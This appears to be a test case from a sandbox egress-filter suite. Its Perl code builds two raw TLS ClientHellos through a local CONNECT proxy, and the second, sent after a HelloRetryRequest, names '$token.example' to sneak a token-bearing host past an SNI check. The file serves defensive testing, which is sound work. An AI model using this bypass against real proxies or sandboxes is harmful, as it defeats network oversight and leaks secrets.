import { attempt, visited } from '../../attempt.js';

export default attempt({
  title: 'name another host in the second TLS hello, behind a HelloRetryRequest',
  layers: ['TLS hello check'],
  needs: ['hello_check'],
  perl: `
sub extension { my ($type, $content) = @_; return pack("n n/a", $type, $content) }
sub hello {
  my ($name, $session) = @_;
  my $server = extension(0, pack("n/a", pack("C n/a", 0, $name)));
  my $more = extension(0x002b, pack("C n", 2, 0x0304)) . extension(0x000a, pack("n n", 2, 0x001d)) . extension(0x000d, pack("n n", 2, 0x0403)) . extension(0x0033, pack("n/a", pack("n n/a", 0x001d, "k" x 32)));
  my $body = pack("n a32 C/a n/a C2 n/a", 0x0303, "r" x 32, $session, pack("n", 0x1301), 1, 0, $server . $more);
  return pack("C n n/a", 22, 0x0301, pack("C C n/a", 1, 0, $body));
}
my $target = "localhost:$ENV{allowed_port}";
my $to = tcp("127.0.0.1", 3128, "CONNECT $target HTTP/1.1\\r\\nHost: $target\\r\\n\\r\\n");
exit if !ref $to;

syswrite($to, hello("localhost", "x" x 32));
if (readable($to)) { sysread($to, my $answer, 4096); print "retry: ", length $answer, "\\n" }
syswrite($to, hello("$token.example", "x" x 32));
if (readable($to)) { sysread($to, my $answer, 4096); print "through\\n" }
`,
  escaped: visited('allowed'),
});
